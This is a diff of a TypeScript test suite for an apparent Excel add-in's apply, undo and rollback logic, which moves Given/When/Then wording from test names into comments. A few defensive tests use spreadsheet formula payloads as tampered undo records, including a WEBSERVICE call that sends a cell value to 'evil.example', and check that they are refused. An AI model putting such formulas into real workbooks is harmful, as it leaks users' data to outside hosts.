@@ -46,7 +46,8 @@ async function applyFailingTwice(): Promise<{ wb: Workbook; team: LibraryIndex; 
 }
 
 describe("apply is atomic", () => {
-  it("Given the registry write fails inside the apply batch, Then the cell, the registry and the undo record agree, the message says nothing changed, and a later apply + undo brings back 37500", async () => {
+  it("keeps cell, registry and undo in agreement when the registry write fails", async () => {
+    // Given the registry write fails inside the apply batch
     const wb = await fixtureWorkbook();
     const team = teamIndex({ systemPricePerGpu: 31000 });
     const p = await plan(wb, team);
@@ -55,6 +56,7 @@ describe("apply is atomic", () => {
 
     const error = await apply(wb, p, ["systemPricePerGpu"]).catch((e: unknown) => e);
 
+    // Then the cell, the registry and the undo record agree, the message says nothing changed, and a later apply + undo brings back 37500
     // The failed batch, then one sync to read what it left and one to put it back.
     expect(wb.stats.syncCount).toBe(3);
     expect(error).toBeInstanceOf(ExcelOperationFailedError);
@@ -80,9 +82,12 @@ describe("apply is atomic", () => {
     expect(recorded(wb, wb.worksheetId, "systemPricePerGpu")).toBe(37500);
   });
 
-  it("Given the apply fails and so does its rollback, When the user next checks for updates, Then the pending refresh is reconciled first and the message said so", async () => {
+  it("reconciles a failed apply and rollback at the next check", async () => {
+    // Given the apply fails and so does its rollback
+    // When the user next checks for updates
     const { wb, team, error } = await applyFailingTwice();
 
+    // Then the pending refresh is reconciled first and the message said so
     expect(error).toBeInstanceOf(ExcelOperationFailedError);
     expect((error as ExcelOperationFailedError).rolledBack).toBe(false);
     expect(userMessage(error)).toMatch(/Check for updates .*finish/);
@@ -99,13 +104,15 @@ describe("apply is atomic", () => {
     expect(wb.stats.syncCount).toBeLessThanOrEqual(3);
   });
 
-  it("Given the answer of the apply batch is lost after Excel applied it, Then apply reports success and undo works", async () => {
+  it("reports success when the apply's answer is lost", async () => {
+    // Given the answer of the apply batch is lost after Excel applied it
     const wb = await fixtureWorkbook();
     const p = await plan(wb, teamIndex({ systemPricePerGpu: 31000 }));
     wb.host.faults.loseResponse();
 
     const result = await apply(wb, p, ["systemPricePerGpu"]);
 
+    // Then apply reports success and undo works
     expect(result).toEqual({ applied: 1 });
     expect(recorded(wb, wb.worksheetId, "systemPricePerGpu")).toBe(31000);
     expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
@@ -113,11 +120,13 @@ describe("apply is atomic", () => {
     expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
   });
 
-  it("Given a normal apply, Then it costs one round trip and leaves no pending record", async () => {
+  it("costs one round trip and leaves no pending record", async () => {
+    // Given a normal apply
     const wb = await fixtureWorkbook();
     const p = await plan(wb, teamIndex());
     wb.stats.reset();
     await apply(wb, p, ["systemPricePerGpu", "powerPrice"]);
+    // Then it costs one round trip and leaves no pending record
     expect(wb.stats.syncCount).toBe(1);
     expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
   });
@@ -162,7 +171,8 @@ describe("undo is atomic, and refresh keeps provenance with the value (rent-vs-b
     return wb;
   }
 
-  it("Given the H100 price refreshed to a team value with source 'Acme Dell quote Q4', Then the row's source and as-of and the header's library change with it, and undo restores them", async () => {
+  it("refreshes source, as-of and header with the value", async () => {
+    // Given the H100 price refreshed to a team value with source 'Acme Dell quote Q4'
     const wb = await rentVsBuild();
     const price = rowOf("systemPricePerGpu");
     const header = `${COLUMN.value}${LAYOUT.header.library}`;
@@ -175,6 +185,7 @@ describe("undo is atomic, and refresh keeps provenance with the value (rent-vs-b
 
     await applyRefresh(wb.excel, p, ["systemPricePerGpu"]);
 
+    // Then the row's source and as-of and the header's library change with it, and undo restores them
     expect(at(wb, `${COLUMN.value}${price}`)).toBe(31000);
     expect(at(wb, `${COLUMN.source}${price}`)).toBe("Acme Dell quote Q4");
     expect(at(wb, `${COLUMN.asOf}${price}`)).toBe("2026-11");
@@ -186,15 +197,18 @@ describe("undo is atomic, and refresh keeps provenance with the value (rent-vs-b
     expect(at(wb, header)).toBe(before.header);
   });
 
-  it("Given two inputs refreshed and the name CP_Pue deleted, When undone, Then the price and its registry entry come back, the PUE is reported as not restored, and the undo record is gone", async () => {
+  it("reports an input whose name was deleted as not restored", async () => {
+    // Given two inputs refreshed and the name CP_Pue deleted
     const wb = await rentVsBuild();
     const priceBefore = namedCell(wb.store, "CP_SystemPricePerGpu").value;
     const p = await planRefresh(wb.excel, dellIndex());
     await applyRefresh(wb.excel, p, ["systemPricePerGpu", "pue"]);
     wb.store.removeName("CP_Pue");
 
+    // When undone
     const result = await undoLastRefresh(wb.excel);
 
+    // Then the price and its registry entry come back, the PUE is reported as not restored, and the undo record is gone
     expect(result.restored).toBe(1);
     expect(result.notRestored).toEqual([
       expect.objectContaining({
@@ -211,7 +225,8 @@ describe("undo is atomic, and refresh keeps provenance with the value (rent-vs-b
     await expect(undoLastRefresh(wb.excel)).rejects.toMatchObject({ code: "NothingToUndo" });
   });
 
-  it("Given the undo batch fails partway, Then the next check for updates finishes the undo before comparing", async () => {
+  it("finishes a partial undo at the next check", async () => {
+    // Given the undo batch fails partway
     const wb = await rentVsBuild();
     const priceBefore = namedCell(wb.store, "CP_SystemPricePerGpu").value;
     const p = await planRefresh(wb.excel, dellIndex());
@@ -224,6 +239,7 @@ describe("undo is atomic, and refresh keeps provenance with the value (rent-vs-b
     wb.stats.reset();
 
     const error = await undoLastRefresh(wb.excel).catch((e: unknown) => e);
+    // Then the next check for updates finishes the undo before comparing
     // Read + read the cells + the failed batch, then one more try: read + the failed roll-forward
     // (which reuses the cells the first try read).
     expect(wb.stats.syncCount).toBe(5);
@@ -257,12 +273,15 @@ describe("undo writes only what the template could have written", () => {
     wb.store.setSetting(UNDO_KEY, undo as unknown as JsonValue);
   }
 
-  it("Given a previous formula that calls a function (WEBSERVICE), When undoing, Then it is refused with a clear message and nothing is written", async () => {
+  it("refuses a previous formula that calls a function", async () => {
+    // Given a previous formula that calls a function (WEBSERVICE)
     const wb = await refreshed();
     tamper(wb, { value: 0, formula: '=WEBSERVICE("https://evil.example/?"&CP_GpuCount)' });
 
+    // When undoing
     const error = await undoLastRefreshWith(wb.excel).catch((e: unknown) => e);
 
+    // Then it is refused with a clear message and nothing is written
     expect(error).toBeInstanceOf(UnsafeUndoRecordError);
     expect(userMessage(error)).toMatch(
       /not a value or formula Capacity Planner could have written/
@@ -270,7 +289,8 @@ describe("undo writes only what the template could have written", () => {
     expect(cellAt(wb.store, SHEET, "B7")).toEqual({ value: 0.081, formula: null });
   });
 
-  it("Given a previous formula over a name the record itself lists and that is not a cell of the sheet (a name defined as a WEBSERVICE call), When undoing, Then it is refused", async () => {
+  it("refuses a previous formula over a name defined as a call", async () => {
+    // Given a previous formula over a name the record itself lists and that is not a cell of the sheet (a name defined as a WEBSERVICE call)
     const wb = await refreshed();
     wb.store.addName({
       name: "CP_Leak",
@@ -285,39 +305,53 @@ describe("undo writes only what the template could have written", () => {
     wb.store.setSetting(UNDO_KEY, undo as unknown as JsonValue);
     tamper(wb, { value: 0, formula: "=CP_Leak*1" });
 
+    // When undoing
+    // Then it is refused
     await expect(undoLastRefreshWith(wb.excel)).rejects.toBeInstanceOf(UnsafeUndoRecordError);
     expect(cellAt(wb.store, SHEET, "B7")).toEqual({ value: 0.081, formula: null });
   });
 
-  it("Given previous text that looks like a formula, When undoing, Then it is written as text, never as a formula", async () => {
+  it("writes formula-like previous text as text", async () => {
+    // Given previous text that looks like a formula
     const wb = await refreshed();
     tamper(wb, { value: '=HYPERLINK("https://evil.example")', formula: null });
+    // When undoing
     await undoLastRefreshWith(wb.excel);
+    // Then it is written as text, never as a formula
     expect(cellAt(wb.store, SHEET, "B7").formula).toBeNull();
   });
 
-  it("Given a user formula of numbers and the sheet's own names, When undoing, Then it comes back", async () => {
+  it("restores a formula of numbers and the sheet's names", async () => {
+    // Given a user formula of numbers and the sheet's own names
     const wb = await refreshed();
     tamper(wb, { value: 0.06, formula: "=CP_RentalRate/40+0.01" });
+    // When undoing
     await undoLastRefreshWith(wb.excel);
+    // Then it comes back
     expect(cellAt(wb.store, SHEET, "B7").formula).toBe("=CP_RentalRate/40+0.01");
   });
 
-  it("Given a user formula that rounds, caps or branches over the sheet's names and cells, When undoing, Then it comes back", async () => {
+  it("restores a formula that rounds, caps or branches", async () => {
+    // Given a user formula that rounds, caps or branches over the sheet's names and cells
     const wb = await refreshed();
     const formula = "=IF(CP_GpuCount>1000,ROUND(MIN(CP_RentalRate/40,$B$8),4),0.06)";
     tamper(wb, { value: 0.06, formula });
+    // When undoing
     await undoLastRefreshWith(wb.excel);
+    // Then it comes back
     expect(cellAt(wb.store, SHEET, "B7").formula).toBe(formula);
   });
 });
 
 describe("an undo that can never succeed does not stay", () => {
-  it("Given the refreshed sheet was deleted, When undoing, Then the user is told and the record is set aside, so the next undo has nothing to do", async () => {
+  it("sets the record aside when the sheet was deleted", async () => {
+    // Given the refreshed sheet was deleted
     const wb = await fixtureWorkbook();
     await apply(wb, await plan(wb, teamIndex()), ["powerPrice"]);
     wb.store.removeSheet(wb.worksheetId);
 
+    // When undoing
+    // Then the user is told and the record is set aside, so the next undo has nothing to do
     await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({
       code: "RefreshedSheetMissing",
     });
@@ -325,10 +359,13 @@ describe("an undo that can never succeed does not stay", () => {
     expect(wb.store.getSetting("capplan.undo.refused")).toBeDefined();
   });
 
-  it("Given a damaged undo record, When undoing, Then it is reported and set aside verbatim", async () => {
+  it("sets a damaged undo record aside verbatim", async () => {
+    // Given a damaged undo record
     const wb = await fixtureWorkbook();
     wb.store.setSetting(UNDO_KEY, { version: 1, previous: 3 });
 
+    // When undoing
+    // Then it is reported and set aside verbatim
     await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({
       code: "CorruptUndoRecord",
     });
@@ -338,12 +375,15 @@ describe("an undo that can never succeed does not stay", () => {
 });
 
 describe("undo after the template was replaced by a sheet of the same name", () => {
-  it("Given the refreshed template deleted and a plain sheet given its name, When undoing, Then nothing is written on that sheet and it does not become a template", async () => {
+  it("writes nothing on a plain sheet with the template's name", async () => {
+    // Given the refreshed template deleted and a plain sheet given its name
     const wb = await fixtureWorkbook();
     await apply(wb, await plan(wb, teamIndex()), ["powerPrice"]);
     wb.store.removeSheet(wb.worksheetId);
     const impostor = wb.store.addSheet(SHEET);
 
+    // When undoing
+    // Then nothing is written on that sheet and it does not become a template
     await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({
       code: "RefreshedSheetMissing",
     });
@@ -354,15 +394,18 @@ describe("undo after the template was replaced by a sheet of the same name", () 
 });
 
 describe("undo and rollback keep what the user changed since the refresh", () => {
-  it("Given two refreshed inputs and one edited by hand afterwards, When undone, Then the edit is kept and listed, the other comes back, in 3 syncs", async () => {
+  it("keeps and lists an input edited after the refresh", async () => {
+    // Given two refreshed inputs and one edited by hand afterwards
     const wb = await fixtureWorkbook();
     const team = teamIndex();
     await apply(wb, await plan(wb, team), ["systemPricePerGpu", "powerPrice"]);
     await typeInto(wb.excel, SHEET, "B7", 0.07);
     wb.stats.reset();
 
+    // When undone
     const result = await undoLastRefreshWith(wb.excel);
 
+    // Then the edit is kept and listed, the other comes back, in 3 syncs
     // Read the records, read the cells undo would write, write.
     expect(wb.stats.syncCount).toBe(3);
     expect(result).toEqual({
@@ -383,8 +426,11 @@ describe("undo and rollback keep what the user changed since the refresh", () =>
     expect(wb.store.getSetting(UNDO_KEY)).toBeUndefined();
   });
 
-  it("Given a failed apply whose rollback also failed, and the user then edited the half-applied cell, When checking for updates, Then the rollback keeps the edit", async () => {
+  it("keeps an edit of a half-applied cell in the rollback", async () => {
+    // Given a failed apply whose rollback also failed, and the user then edited the half-applied cell
+    // When checking for updates
     const { wb, team } = await applyFailingTwice();
+    // Then the rollback keeps the edit
     expect(wb.store.getSetting(PENDING_KEY)).toBeDefined();
     await typeInto(wb.excel, SHEET, "B6", 33000);
 
@@ -400,7 +446,8 @@ describe("undo and rollback keep what the user changed since the refresh", () =>
 });
 
 describe("undo keeps a source cell the user changed since the refresh (rent-vs-build template)", () => {
-  it("Given the H100 price refreshed and its source then typed over, When undone, Then the price and as-of come back, the typed source stays and is listed", async () => {
+  it("keeps and lists a source typed over after the refresh", async () => {
+    // Given the H100 price refreshed and its source then typed over
     const wb = newWorkbook();
     await insertTemplate(wb.excel, defaultIndex, SCENARIO);
     const price = rowOf("systemPricePerGpu");
@@ -409,8 +456,10 @@ describe("undo keeps a source cell the user changed since the refresh (rent-vs-b
     await applyRefresh(wb.excel, await planRefresh(wb.excel, dellIndex()), ["systemPricePerGpu"]);
     await typeInto(wb.excel, SHEET, `${COLUMN.source}${price}`, "Dell quote 7731, signed");
 
+    // When undone
     const result = await undoLastRefresh(wb.excel);
 
+    // Then the price and as-of come back, the typed source stays and is listed
     expect(namedCell(wb.store, "CP_SystemPricePerGpu").value).toBe(priceBefore);
     expect(at(wb, `${COLUMN.asOf}${price}`)).toBe(asOfBefore);
     expect(at(wb, `${COLUMN.source}${price}`)).toBe("Dell quote 7731, signed");
